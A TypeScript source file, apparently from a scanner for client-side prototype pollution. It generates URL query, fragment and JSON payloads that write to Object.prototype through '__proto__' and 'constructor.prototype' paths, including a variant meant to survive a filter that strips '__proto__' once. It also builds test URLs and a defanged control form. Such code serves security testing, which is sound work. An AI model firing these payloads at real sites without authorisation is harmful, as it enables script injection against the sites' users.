import type { PollutedProperty } from './known-gadgets.ts';

export type Properties = readonly PollutedProperty[];

/** How a URL names properties of the prototype. */
export interface PollutingForm {
  readonly at: 'search' | 'hash';
  /** The parameter whose value it is. */
  readonly parameter?: string;
  readonly text: (properties: Properties) => string;
}

const inBrackets = (path: readonly string[]): string => path.map((name) => `[${name}]`).join('');
const withDots = (path: readonly string[]): string => path.map((name) => `.${name === '' ? '0' : name}`).join('');

const writings: readonly ((path: readonly string[]) => string)[] = [
  (path) => `__proto__${inBrackets(path)}`,
  (path) => `__proto__${withDots(path)}`,
  (path) => `constructor[prototype]${inBrackets(path)}`,
  (path) => `constructor.prototype${withDots(path)}`,
  // What is left where the name is removed once.
  (path) => `__pro__proto__to__${inBrackets(path)}`,
];

/** Pairs of names and values in the query and the fragment. */
export const pairForms = (['search', 'hash'] as const).flatMap((at) =>
  writings.map((nameOf): PollutingForm => {
    const text = (properties: Properties): string =>
      properties.map(([path, value]) => `${nameOf(path)}=${encodeURIComponent(value)}`).join('&');
    return { at, text };
  }),
);
const maxParameters = 6;

/** JSON whose properties a script copies one by one, in the fragment and in the parameters that it reads. */
export function jsonForms(parameters: readonly string[]): readonly PollutingForm[] {
  // Written in full: `__proto__` of a literal is its prototype.
  const json = (properties: Properties): string =>
    encodeURIComponent(`{"__proto__":${JSON.stringify(objectWith(properties))}}`);
  const inQuery = parameters.slice(0, maxParameters).map((name): PollutingForm => ({
    at: 'search',
    parameter: name,
    text: (properties) => `${encodeURIComponent(name)}=${json(properties)}`,
  }));
  return [{ at: 'hash', text: json }, ...inQuery];
}

type Nested = { [name: string]: Nested | string } | (Nested | string)[];

function objectWith(properties: Properties): Nested {
  const object: Nested = {};
  for (const [path, value] of properties) {
    let at = object as Record<string, Nested | string>;
    for (const [index, name] of path.entries()) {
      const key = name === '' ? '0' : name;
      const next = path[index + 1];
      if (next === undefined) at[key] = value;
      else at = (at[key] ??= /^\d*$/.test(next) ? [] : {}) as Record<string, Nested | string>;
    }
  }
  return object;
}

export function urlWith(page: URL, forms: readonly (readonly [form: PollutingForm, properties: Properties])[]): URL {
  const url = new URL(page);
  // Of parameters with one name scripts read the first.
  for (const [{ parameter }] of forms) if (parameter !== undefined) url.searchParams.delete(parameter);
  const textsAt = (at: PollutingForm['at']): string[] =>
    forms.flatMap(([form, properties]) => (form.at === at ? [form.text(properties)] : []));
  url.search = [url.search.slice(1), ...textsAt('search')].filter(Boolean).join('&');
  const fragments = textsAt('hash');
  if (fragments.length > 0) url.hash = fragments.join('&');
  return url;
}

/** The same value with names that pollute nothing: what runs by it as well is no matter of the prototype. */
export function harmlessForm(form: PollutingForm): PollutingForm {
  return {
    ...form,
    text: (properties) =>
      form
        .text(properties)
        .replaceAll('proto__', 'prot0__')
        .replaceAll(/constructor([.[])prototype/g, 'c0nstructor$1prototype'),
  };
}
